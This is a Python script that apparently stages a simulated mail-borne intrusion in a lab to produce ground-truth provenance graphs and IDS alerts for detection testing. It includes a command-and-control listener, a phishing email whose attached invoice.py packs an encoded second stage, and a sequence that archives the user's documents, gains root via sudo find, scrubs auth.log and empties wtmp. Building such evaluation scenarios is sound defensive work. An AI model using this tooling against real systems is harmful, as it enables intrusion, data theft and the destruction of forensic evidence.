# SPDX-License-Identifier: MIT
"""Drives the mail incident: alice saves an attachment with mutt, runs it, and its second stage does the rest.

mail_attachment.py OUT ROOT FIRST_PID WITNESS KEY STAGE2 RULES: runs outside, in the namespace that owns 10.0.0.5.
"""
import base64
import email.message
import os
import smtplib
import socket
import sys
import time
import zlib

import noise
import scene

ATTACHMENT = "/home/alice/Downloads/invoice.py"
STAGE2 = "/tmp/.x/stage2"
ARCHIVE = "/tmp/.x/docs.tar"


class Controller:
    """10.0.0.5:443: takes the implant's one connection and gives it orders, letter by letter."""

    def __init__(self):
        self.listener = socket.create_server(("10.0.0.5", 443))

    def wait(self):
        self.listener.settimeout(60)
        self.connection, self.peer = self.listener.accept()
        self.connected = time.time()
        self.stream = self.connection.makefile("rb")
        return self.answer(b"hello")

    def answer(self, word):
        """Reads up to the line that begins with the word; returns its name=value words."""
        for line in self.stream:
            if line.startswith(word):
                return dict(pair.split("=") for pair in line.decode().split()[1:])
        raise RuntimeError(f"the implant hung up before it said {word!r}")

    def order(self, letter, word):
        self.connection.sendall(letter)
        return self.answer(word)


def send_mail(source, sender, subject, text, attachment=None):
    message = email.message.EmailMessage()
    message["From"], message["To"], message["Subject"] = sender, "alice@example.org", subject
    message.set_content(text)
    if attachment:
        message.add_attachment(attachment, maintype="text", subtype="x-python", filename="invoice.py")
    with smtplib.SMTP("10.0.0.2", 25, local_hostname=sender.partition("@")[2], source_address=(source, 0)) as server:
        port = server.sock.getsockname()[1]
        server.send_message(message)
    return port


def attachment_bytes(stage2):
    with open(os.path.join(os.path.dirname(__file__), "attachment.py"), encoding="utf-8") as file:
        lines = file.read()
    with open(stage2, "rb") as file:
        packed = base64.b64encode(zlib.compress(file.read(), 9)).decode()
    return lines.replace("@STAGE2@", packed).encode()


def save_attachment(world, alice):
    """Real keystrokes: last message, its attachments, the second of them, save as, quit. Returns mutt's pid."""
    alice.keys("mutt\n", 2.0)
    pid = world.process("/usr/bin/mutt")
    alice.keys("*", 0.5)
    alice.keys("\n", 1.5)
    alice.keys("v", 1.0)
    alice.keys("j", 0.6)
    alice.keys("s", 0.8)
    alice.keys("\x15" + ATTACHMENT + "\n", 1.5)
    alice.keys("q", 0.5)
    alice.keys("i", 0.5)
    alice.keys("q", 1.0)
    return pid


def incident(world, alice, controller):
    """The whole story; returns what was seen of it."""
    seen = {}
    start = time.time()
    seen["mutt"] = save_attachment(world, alice)
    seen["bash"] = world.execution(start, "/usr/bin/mutt")["ppid"]
    seen["attachment"] = world.file(ATTACHMENT)
    alice.run("ls -l Downloads; file Downloads/invoice.py")
    start = time.time()
    alice.run("python3 Downloads/invoice.py")
    hello = controller.wait()
    seen["python"] = world.execution(start, "/usr/bin/python3.11", seen["bash"])["pid"]
    seen["stage2"] = int(hello["pid"])
    assert world.execution(start, STAGE2)["pid"] == seen["stage2"]
    seen["stage2-file"] = world.file(STAGE2)
    time.sleep(6)
    alice.run("wc -w Documents/letter-0*.txt | tail -n 1")
    start = time.time()
    seen["tar"] = int(controller.order(b"c", b"\ncollected".strip())["pid"])
    seen["archive"] = world.file(ARCHIVE)
    assert world.execution(start, "/usr/bin/tar", seen["stage2"])["pid"] == seen["tar"]
    time.sleep(6)
    start = time.time()
    seen["auth-log-before"] = world.file("/var/log/auth.log")
    seen["wtmp"] = world.file("/var/log/wtmp")
    seen["sudo"] = int(controller.order(b"l", b"cleaned")["pid"])
    for name, path in (("find", "/usr/bin/find"), ("sh", "/usr/bin/dash"), ("sed", "/usr/bin/sed")):
        line = [line for line in world.executions(start, path) if seen["sudo"] in line["ancestors"]]
        assert len(line) == 1, (name, line)
        seen[name], seen[name + "-ancestors"] = line[0]["pid"], line[0]["ancestors"]
    seen["auth-log"] = world.file("/var/log/auth.log")
    time.sleep(5)
    controller.order(b"x", b"left")
    assert not os.path.exists(world.root + ATTACHMENT) and not os.path.exists(world.root + STAGE2)
    return seen


def tell_processes(truth, seen):
    truth.process("shell", seen["bash"], "/usr/bin/bash", "alice's login shell, over ssh from 10.0.0.23")
    truth.process("mail-client", seen["mutt"], "/usr/bin/mutt", "saves the attachment")
    truth.process("interpreter", seen["python"], "/usr/bin/python3.11", "runs the attachment")
    truth.file("stage2-file", seen["stage2-file"], "the second stage, dropped by the attachment")
    truth.process("stage2", seen["stage2"], STAGE2, "connects to the command and control server")
    truth.address("c2", "10.0.0.5", 443, "command and control")
    truth.process("archiver", seen["tar"], "/usr/bin/tar", "collects alice's documents")
    truth.process("sudo", seen["sudo"], "/usr/bin/sudo", "alice becomes root: sudo lets her run find on logs")
    for source, target in (("shell", "mail-client"), ("shell", "interpreter"), ("interpreter", "stage2"),
                           ("stage2", "archiver"), ("stage2", "sudo")):
        truth.edge(source, "fork", target)
    truth.edge("stage2-file", "execute", "stage2")
    truth.edge("stage2", "connect", "c2")


def tell_all(truth, seen):
    tell_processes(truth, seen)
    truth.file("attachment", seen["attachment"], "the attachment as saved")
    truth.file("archive", seen["archive"], "what was collected")
    truth.process("root-find", seen["find"], "/usr/bin/find", "runs a shell as root")
    truth.process("root-shell", seen["sh"], "/usr/bin/dash", "cleans the logs as root")
    truth.process("cleaner", seen["sed"], "/usr/bin/sed", "takes alice's lines out of auth.log")
    truth.file("auth-log", seen["auth-log"], "the cleaned copy that was renamed over the log",
               replaced_inode=seen["auth-log-before"]["inode"])
    truth.file("wtmp", seen["wtmp"], "emptied: the list of logins")
    for edge in (("mail-client", "create", "attachment"), ("attachment", "open-read", "interpreter"),
                 ("interpreter", "create", "stage2-file"), ("archiver", "create", "archive"),
                 ("archive", "open-read", "stage2"), ("root-find", "fork", "root-shell"),
                 ("root-shell", "fork", "cleaner"), ("cleaner", "rename", "auth-log"),
                 ("root-shell", "truncate", "wtmp"), ("stage2", "delete", "attachment"),
                 ("stage2", "delete", "archive"), ("stage2", "delete", "stage2-file")):
        truth.edge(*edge)
    if seen["find-ancestors"][0] == seen["sudo"]:
        truth.edge("sudo", "fork", "root-find")
    else:
        truth.process("sudo-monitor", seen["find-ancestors"][0], "/usr/bin/sudo", "sudo's second process")
        truth.edge("sudo", "fork", "sudo-monitor")
        truth.edge("sudo-monitor", "fork", "root-find")
    truth.case["path"] = ["mail-client", "attachment", "interpreter", "stage2-file", "stage2", "c2"]


def tell_few(truth, seen):
    """What rules on execve and connect alone can show: who ran what, under whom, and who connected."""
    tell_processes(truth, seen)
    if seen["find-ancestors"][0] == seen["sudo"]:
        truth.process("root-find", seen["find"], "/usr/bin/find", "runs a shell as root")
        truth.process("root-shell", seen["sh"], "/usr/bin/dash", "cleans the logs as root")
        truth.process("cleaner", seen["sed"], "/usr/bin/sed", "takes alice's lines out of auth.log")
        for edge in (("sudo", "root-find"), ("root-find", "root-shell"), ("root-shell", "cleaner")):
            truth.edge(edge[0], "fork", edge[1])
    truth.case["path"] = ["shell", "interpreter", "stage2", "c2"]


def main():
    out, root, first_pid, witness, key, stage2, rules = sys.argv[1:]
    world = scene.World(root, int(first_pid), witness, key, out)
    other = noise.Noise(world, pause=(7.0, 20.0))
    controller = Controller()
    begin = time.monotonic()
    other.prepare()
    other.start()
    noise.wait_until(begin + 50)
    send_mail("10.0.0.24", "bob@example.org", "Meeting on Monday", "Ten o'clock suits me.\nBob\n")
    noise.wait_until(begin + 90)
    mailed = time.time()
    mail_port = send_mail("10.0.0.9", "billing@supplier.example", "Your invoice 2026-1107",
                          "Please find our invoice attached.\nRun it to see the amount due.\n",
                          attachment_bytes(stage2))
    noise.wait_until(begin + 120)
    alice = scene.Terminal(world, "alice")
    alice.run("ls Documents | tail -n 3; date")
    seen = incident(world, alice, controller)
    time.sleep(3)
    alice.run("less -E Documents/letter-00.txt | cat | wc -l")
    alice.leave()
    noise.wait_until(begin + 300)
    other.stop()

    truth = scene.Truth(rules)
    truth.case["alert"] = {"address": "10.0.0.5", "port": 443, "time": f"@{controller.connected + 0.18:.6f}"}
    truth.case["login"] = {"user": "alice", "address": "10.0.0.23"}
    (tell_few if rules == "few" else tell_all)(truth, seen)
    here = ("10.0.0.2", controller.peer[1])
    alerts = [
        scene.alert(mailed + 0.22, ("10.0.0.9", mail_port), ("10.0.0.2", 25), 1000101,
                    "LOCAL SMTP attachment is a script", "Potentially Bad Traffic", 2, "smtp", 1107000000000001),
        scene.alert(controller.connected + 0.18, here, ("10.0.0.5", 443), 1000117,
                    "LOCAL no TLS on port 443 to a listed address", "A Network Trojan was detected", 1, "failed",
                    1107000000000002),
    ]
    truth.write(out, alerts)


if __name__ == "__main__":
    main()
